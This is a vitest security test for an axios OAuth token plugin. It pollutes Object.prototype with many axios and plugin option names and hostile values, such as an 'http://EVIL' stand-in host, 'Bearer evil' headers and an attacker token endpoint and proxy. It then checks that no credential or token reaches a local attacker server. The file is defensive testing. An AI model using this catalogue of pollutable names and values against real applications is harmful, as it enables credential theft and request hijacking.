import { spawn } from 'node:child_process'
import { mkdtemp, rm } from 'node:fs/promises'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { build } from 'esbuild'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { CAN } from '../support/axios-features.js'

/**
 * Another package in the application may have polluted Object.prototype. A child process runs
 * with each pollution in turn, and two servers in this process record what arrives. If a pollution
 * breaks even a plain request of axios or Node, the test only checks that no secret leaks.
 */

/** Nothing listens on port 9. A port that was just closed can soon be another program's. */
const CLOSED_URL = 'http://127.0.0.1:9'

/** A server that must not receive any credential or token of the account. */
const EVIL = 'http://EVIL'

/** The values for names without a more specific attack. */
const DEFAULT_VALUES = [EVIL, { evil: EVIL }]
const HEADERS = { Authorization: 'Bearer evil', 'X-Evil': '1' }
const TOKEN = { access_token: 'evil', token_type: 'bearer' }

/** What axios reads. Its security advisories name most of these. Each is tested in all ways of use. */
const AXIOS_READS: Record<string, readonly unknown[]> = {
  ...withDefaults(
    'url baseURL data params paramsSerializer adapter transport httpAgent httpsAgent',
  ),
  ...withDefaults(
    'socketPath allowedSocketPaths transformRequest transformResponse validateStatus',
  ),
  ...withDefaults(
    'beforeRedirect lookup env withCredentials responseType cancelToken transitional',
  ),
  ...withDefaults(
    'Authorization authorization skipCaspioAuth skipAuthRefresh redact sensitiveHeaders',
  ),
  allowAbsoluteUrls: [false, true],
  auth: [{ username: 'evil', password: 'evil' }, 'evil:evil'],
  username: ['evil'],
  password: ['evil'],
  headers: [HEADERS],
  common: [HEADERS],
  post: [HEADERS],
  get: [HEADERS, EVIL],
  set: [HEADERS],
  method: ['DELETE', 1],
  proxy: [{ host: '127.0.0.1', port: 'PORT', protocol: 'http' }],
  fetchOptions: [{ credentials: 'include', mode: 'no-cors', redirect: 'follow' }],
  maxRedirects: [5],
  maxContentLength: [1],
  insecureHTTPParser: [true],
  timeout: [1],
  timeoutErrorMessage: ['evil'],
  signal: [{ aborted: true }],
}

/** What the plugin reads. The way of use makes no difference. */
const PLUGIN_READS: Record<string, readonly unknown[]> = {
  // The answers of the token endpoint and of a broker.
  ...withDefaults('error error_description token_type expires_in message code status cause'),
  access_token: ['evil'],
  refresh_token: ['evil'],
  response: [
    { status: 200, data: TOKEN },
    { status: 401, data: '' },
  ],
  // Credentials and options.
  ...withDefaults('clientID clientSecret clientAuthentication onEvent shouldRenew'),
  tokenEndpointURL: [EVIL],
  origins: [[EVIL]],
  renewBefore: [1e9, EVIL],
  retries: [5],
  renew: [true],
  // Internal objects of the plugin and of axios-auth-refresh.
  ...withDefaults(
    'forgetRefreshToken release answer requestId nextAttemptAt trial pipe getReader next',
  ),
  ...withDefaults('resume on cancel body retryInstance onRetry shouldRefresh statusCodes'),
  refreshToken: ['evil'],
  single: [true],
  retryable: [true],
  retryAfter: [1e12],
  grantRefused: [true],
  interceptNetworkError: [true],
  enumerable: [true],
}

function withDefaults(names: string): Record<string, readonly unknown[]> {
  return Object.fromEntries(names.split(' ').map((name) => [name, DEFAULT_VALUES]))
}

const POLLUTIONS = { ...AXIOS_READS, ...PLUGIN_READS }

/** Ways to use the plugin. */
const USES = [
  'an instance',
  ...(CAN.fetch ? (['fetch'] as const) : []),
  'body',
  'the global axios',
  'a rebuilt config',
] as const

interface Case {
  readonly id: string
  readonly name?: string
  readonly value?: unknown
  readonly use: (typeof USES)[number]
}

/** The child's program. It runs each case with its pollution and prints how each step ended. */
const CLIENT = `
import { readFileSync } from 'node:fs'
import axios from 'axios'
import caspioAuth from './src/auth.js'
import { attachCaspioAuth, createCaspioAuth } from './src/index.js'

const { home, evil, closedURL, cases, withoutPlugin } = JSON.parse(readFileSync(0, 'utf8'))
const { setTimeout, clearTimeout, Date } = globalThis
const realNow = Date.now
let outcome
process.on('unhandledRejection', () => outcome.push('unhandled rejection'))
// Some names break Node's streams and timers later, where nobody can catch the error.
process.on('uncaughtException', () => {})

// Only the plugin's codes: those of Node and axios vary.
const codeOf = (error) => /^ERR_CASPIO_/.test(error?.code) ? error.code : 'failed'

// It hangs if it takes 20 timers of 100 ms. A pause of the machine takes only one of them.
async function step(act) {
  if (outcome.includes('hang')) return
  let timer
  let left = 20
  const hang = new Promise((resolve) => {
    const wait = () => { timer = setTimeout(() => (--left ? wait() : resolve('hang')), 100) }
    wait()
  })
  const ended = (async () => (await act(), 'ok'))().catch(codeOf)
  outcome.push(await Promise.race([ended, hang]))
  clearTimeout(timer)
}

function client(at, use) {
  const api = use === 'the global axios'
    ? axios
    : axios.create({ baseURL: at + '/rest', ...(use === 'fetch' && { adapter: 'fetch' }) })
  const id = use === 'a rebuilt config' ? api.interceptors.request.use((config) => ({ ...config })) : -1
  return { api, base: api === axios ? at + '/rest' : '', clean: () => api.interceptors.request.eject(id) }
}

async function runWithoutPlugin(at, use) {
  const { api, base } = client(at, use)
  const headers = { Authorization: 'Bearer mine' }
  const like = { headers, responseType: 'text', maxRedirects: 0, maxContentLength: 1e6, signal: new AbortController().signal }
  await step(() => api.post(base + '/token', 'a=1', like))
  await step(() => api.get(base + '/a', { headers }))
  await step(() => api.post(base + '/b', { a: 1 }, { headers }))
}

async function runPlugin(at, use) {
  const { api, base, clean } = client(at, use)
  const credentials = (path) => ({ clientID: 'the-id', clientSecret: 'the-secret', tokenEndpointURL: at + path })
  const source = (path) => createCaspioAuth(credentials(path), { retries: 0 })
  let auth
  await step(() => {
    const clientAuthentication = use === 'body' ? 'body' : 'basic'
    auth = attachCaspioAuth(api, credentials('/token'), { retries: 0, clientAuthentication })
  })
  await step(() => api.get(base + '/a'))
  await step(() => api.post(base + '/b', { a: 1 }))
  await step(() => api.get(evil + '/x'))
  await step(() => auth.getAccessToken({ renew: true }))
  await step(() => auth.getAccessToken())
  if (use === 'an instance') {
    // Its renewal is not due yet.
    Date.now = () => realNow() + 2_700_000
    await step(() => api.get('/c'))
    Date.now = realNow
    await step(() => caspioAuth(credentials('/token'), { retries: 0 })())
    await step(() => createCaspioAuth(credentials('/refused'), { retries: 1 }).getAccessToken())
    await step(() => source('/no-token').getAccessToken())
    await step(() => createCaspioAuth({ clientID: 'the-id', clientSecret: 'the-secret' }))
    let busy
    await step(() => {
      busy = source('/busy')
    })
    await step(() => busy.getAccessToken())
    await step(() => busy.getAccessToken({ renew: true }))
    // No server listens at this address.
    const lost = axios.create({ baseURL: at })
    const lostEndpoint = { ...credentials(''), tokenEndpointURL: closedURL + '/token' }
    await step(() => attachCaspioAuth(lost, lostEndpoint, { retries: 0 }))
    await step(() => lost.get('/d'))
    const gone = axios.create({ baseURL: closedURL })
    await step(() => attachCaspioAuth(gone, credentials('/count'), { retries: 0, origins: [closedURL] }))
    await step(() => gone.get('/e'))
  }
  auth?.detach()
  clean()
}

for (const { id, name, value, use } of cases) {
  outcome = []
  const shared = Object.prototype
  const before = name === undefined ? undefined : Object.getOwnPropertyDescriptor(shared, name)
  const polluted = Object.assign(Object.create(null), { value, writable: true, enumerable: true, configurable: true })
  if (name !== undefined) Object.defineProperty(shared, name, polluted)
  try {
    await (withoutPlugin ? runWithoutPlugin : runPlugin)(home + '/' + id, use)
  } catch {
    outcome.push('crash')
  } finally {
    if (name !== undefined) delete shared[name]
    if (before) Object.defineProperty(shared, name, before)
  }
  process.stdout.write(JSON.stringify([id, outcome]) + '\\n')
}
process.stdout.write('', () => process.exit())
`

/** What the account received in one case, and how the client's steps ended. */
interface Run {
  readonly received: string[]
  outcome: string[]
}

let work: string
let program: string
let home: Server
let evil: Server
/** What the attacker's server received. */
const stolen: string[] = []
const runs = new Map<string, Run>()

beforeAll(async () => {
  work = await mkdtemp(join(tmpdir(), 'pollution-test-'))
  program = join(work, 'client.mjs')
  await build({
    stdin: { contents: CLIENT, resolveDir: fileURLToPath(new URL('../..', import.meta.url)) },
    bundle: true,
    platform: 'node',
    format: 'esm',
    outfile: program,
    alias: { axios: process.env.AXIOS || 'axios' },
    banner: {
      js: "import { createRequire } from 'node:module'\nconst require = createRequire(import.meta.url)",
    },
    logLevel: 'error',
  })
  home = await listen(serve)
  evil = await listen(({ method, url, rawHeaders }, body) => {
    stolen.push(`${method} ${url} ${rawHeaders.join(' ')} ${body}`)
    return { body: JSON.stringify(TOKEN) }
  })

  await run(false, ALL)
  await run(true, [
    ...USES.map((use) => ({ id: use, use })),
    ...ALL.filter(({ id, use }) => differs(id, use)),
  ])
}, 120_000)

afterAll(async () => {
  for (const server of [home, evil]) {
    server.closeAllConnections()
    server.close()
  }
  await rm(work, { recursive: true, force: true })
})

const ALL: Case[] = [
  ...USES.map((use) => ({ id: use, use })),
  ...Object.entries(POLLUTIONS).flatMap(([name, values]) =>
    values.flatMap((value, at) =>
      (Object.hasOwn(AXIOS_READS, name) ? USES : USES.slice(0, 1)).map((use) => ({
        id: `${name}-${at}-${use}`,
        name,
        value,
        use,
      })),
    ),
  ),
]

type Answer = (
  request: { method: string; url: string; rawHeaders: string[] },
  body: string,
) => { status?: number; body: string }

async function listen(answer: Answer): Promise<Server> {
  const server = createServer(async (request, response) => {
    const chunks: Buffer[] = []
    for await (const chunk of request) chunks.push(chunk)
    const { method = '', url = '', rawHeaders } = request
    const { status = 200, body } = answer({ method, url, rawHeaders }, `${Buffer.concat(chunks)}`)
    response.writeHead(status, { 'Content-Type': 'application/json' }).end(body)
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return server
}

function urlOf(server: Server): string {
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`
}

/** The account of each case: token endpoints and resources. The first token of each is rejected. */
const serve: Answer = ({ method, url, rawHeaders }, body) => {
  const [, id = '', ...rest] = url.split('/')
  const path = rest.join('/')
  const { received } = runOf(decodeURIComponent(id))
  const lines = rawHeaders.flatMap((name, index) =>
    index % 2 || /^host$/i.test(name) ? [] : [`${name}: ${rawHeaders[index + 1]}`],
  )
  const issued = received.filter((line) => line.startsWith(`POST ${path} `)).length + 1
  received.push([`${method} ${path} `, ...lines.sort(), body].join('\n'))
  if (path.endsWith('refused')) return { status: 400, body: '{"error":"invalid_client"}' }
  if (path.endsWith('no-token')) return { body: '{}' }
  if (path.endsWith('busy') && issued > 1) return { status: 503, body: '{}' }
  if (/(token|busy|count)$/.test(path) && !path.includes('rest')) {
    const token = { access_token: `token-${issued}`, refresh_token: `refresh-${issued}` }
    return { body: JSON.stringify({ ...token, token_type: 'bearer', expires_in: 3600 }) }
  }
  return { status: lines.includes('Authorization: Bearer token-1') ? 401 : 200, body: '{}' }
}

function runOf(id: string): Run {
  const run = runs.get(id) ?? { received: [], outcome: [] }
  runs.set(id, run)
  return run
}

/** Runs these cases in the child, with the plugin or with axios alone. */
async function run(withoutPlugin: boolean, cases: readonly Case[]): Promise<void> {
  const prefix = withoutPlugin ? 'axios alone ' : ''
  const child = spawn(process.execPath, [program], {
    stdio: ['pipe', 'pipe', 'inherit'],
    env: { PATH: process.env.PATH },
  })
  const port = `${(evil.address() as AddressInfo).port}`
  child.stdin.end(
    JSON.stringify({
      home: urlOf(home),
      evil: urlOf(evil),
      closedURL: CLOSED_URL,
      withoutPlugin,
      cases: cases.map((one) => ({ ...one, id: prefix + one.id })),
    })
      .replaceAll('"PORT"', port)
      .replaceAll(EVIL, urlOf(evil)),
  )
  let text = ''
  child.stdout.on('data', (chunk) => {
    text += chunk
  })
  await new Promise((resolve) => child.on('close', resolve))
  for (const line of text.trim().split('\n')) {
    const [id, outcome] = JSON.parse(line)
    runOf(id).outcome = outcome
  }
}

/** Whether this case went differently from the case without pollution. */
function differs(id: string, use: string): boolean {
  return JSON.stringify(runOf(id)) !== JSON.stringify(runOf(use))
}

describe('without pollution', () => {
  it.each(USES)('%s requests, sends, replaces and renews the token', (use) => {
    const { received, outcome } = runOf(use)
    const sent = received.map((request) => request.split('\n')[0]?.trim())
    expect(sent.slice(0, 6)).toEqual([
      'POST token',
      'GET rest/a',
      'POST token',
      'GET rest/a',
      'POST rest/b',
      'POST token',
    ])
    const bearers = received.flatMap((request) => /Bearer \S+/.exec(request) ?? [])
    expect(bearers.slice(0, 3)).toEqual(['Bearer token-1', 'Bearer token-2', 'Bearer token-2'])
    expect(received[5]).toContain('refresh_token=refresh-2')
    expect(outcome.slice(0, 6)).toEqual(Array(6).fill('ok'))
  })

  it('each failure has its error code, and causes no further request', () => {
    const { received, outcome } = runOf('an instance')
    expect(outcome.slice(6)).toEqual([
      'ok',
      'ok',
      'ERR_CASPIO_CREDENTIALS',
      'ERR_CASPIO_TOKEN_RESPONSE',
      'ERR_CASPIO_CONFIG',
      'ok',
      'ok',
      'ERR_CASPIO_TOKEN_ENDPOINT',
      'ok',
      'ERR_CASPIO_TOKEN_ENDPOINT',
      'ok',
      'failed',
    ])
    const sent = received.map((request) => request.split('\n')[0]?.trim())
    expect(sent.slice(6)).toEqual([
      'GET rest/c',
      'POST token',
      'POST refused',
      'POST no-token',
      'POST busy',
      'POST busy',
      // With client credentials.
      'POST busy',
      'POST count',
    ])
  })
})

describe('with a polluted Object.prototype', () => {
  // An old axios cannot merge options whose names are on Object.prototype, and the plugin sets some of
  // these. It sends no token if the others say that the request goes elsewhere.
  const BROKEN: string[] = CAN.resistPollution
    ? []
    : 'fetchOptions skipAuthRefresh redact socketPath allowAbsoluteUrls get set'.split(' ')
  const NAMES = Object.keys(POLLUTIONS).filter((name) => !BROKEN.includes(name))

  it.each(NAMES)('%s: the plugin works as usual if axios alone does', (name) => {
    const changed = ALL.filter((one) => one.name === name && differs(one.id, one.use)).filter(
      // If axios alone fails too, the plugin cannot help.
      ({ id, use }) => !differs(`axios alone ${id}`, `axios alone ${use}`),
    )
    for (const { id, use } of changed) {
      expect({ id, ...runOf(id) }).toEqual({ id, ...runOf(use) })
    }
  })

  it('few names break anything, so the test above covers most names', () => {
    const broken = ALL.filter(({ id, use }) => differs(id, use)).map(({ name }) => name)
    expect(new Set(broken).size).toBeLessThan(CAN.resistPollution ? 20 : 36)
  })

  it('response: a network error does not become an answer', () => {
    for (const id of ['response-0-an instance', 'response-1-an instance']) {
      const { received, outcome } = runOf(id)
      expect(outcome.slice(-3)).toEqual(['ERR_CASPIO_TOKEN_ENDPOINT', 'ok', 'failed'])
      expect(received.filter((request) => request.startsWith('POST count'))).toHaveLength(1)
    }
  })

  it('no credential or token reaches the attacker’s server', () => {
    // Requests did arrive there.
    expect(stolen.length).toBeGreaterThan(Object.keys(POLLUTIONS).length)
    const basic = Buffer.from('the-id:the-secret').toString('base64')
    const leaks = stolen.filter((request) =>
      [basic, 'the-secret', 'token-', 'refresh-'].some((secret) => request.includes(secret)),
    )
    expect(leaks).toEqual([])
  })

  it('no token from the attacker’s server is sent', () => {
    const all = [...runs].filter(([id]) => !id.startsWith('axios alone'))
    const sent = all.flatMap(([id, { received }]) =>
      received.filter((request) => request.includes('Bearer evil')).map(() => id),
    )
    // The fetch of Node 20 and an old axios read `headers` from Object.prototype.
    const mayRead = CAN.resistPollution ? /^headers-0-fetch$/ : /^headers-0-/
    expect(sent.filter((id) => !mayRead.test(id))).toEqual([])
  })
})
